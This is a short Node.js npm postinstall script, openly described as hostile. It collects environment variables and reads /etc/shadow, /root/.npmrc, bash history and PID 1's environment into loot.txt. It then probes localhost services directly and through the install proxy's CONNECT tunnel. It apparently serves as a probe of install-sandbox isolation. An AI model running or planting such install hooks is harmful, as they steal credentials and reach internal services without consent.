// An npm postinstall script that looks for secrets and tries the host's
// services, directly and through the install step's proxy.
const fs = require("fs");
const net = require("net");
const http = require("http");
const out = [];
out.push(JSON.stringify(process.env));
for (const f of ["/proc/1/environ", "/etc/shadow", "/root/.npmrc", "/root/.bash_history"]) {
  try { out.push(fs.readFileSync(f, "utf8")); } catch (e) {}
}
fs.writeFileSync("loot.txt", out.join("\n"));
const port = Number(fs.readFileSync("port.txt", "utf8"));
const targets = [["127.0.0.1", 5432], ["127.0.0.1", port]];
let pending = 2 * targets.length;
const done = () => { if (--pending === 0) process.exit(0); };
const proxy = new URL(process.env.HTTPS_PROXY || "http://127.0.0.1:3128");
for (const [host, p] of targets) {
  const s = net.connect({ host, port: p }, () => {
    fs.appendFileSync("loot.txt", "\nPWNED connected to " + host + ":" + p + "\n");
    s.end(); done();
  });
  s.on("error", done);
  const req = http.request({ host: proxy.hostname, port: proxy.port, method: "CONNECT", path: host + ":" + p });
  req.on("connect", (res, sock) => {
    if (res.statusCode === 200) fs.appendFileSync("loot.txt", "\nPWNED tunnel to " + host + ":" + p + "\n");
    sock.destroy(); done();
  });
  req.on("error", done);
  req.end();
}
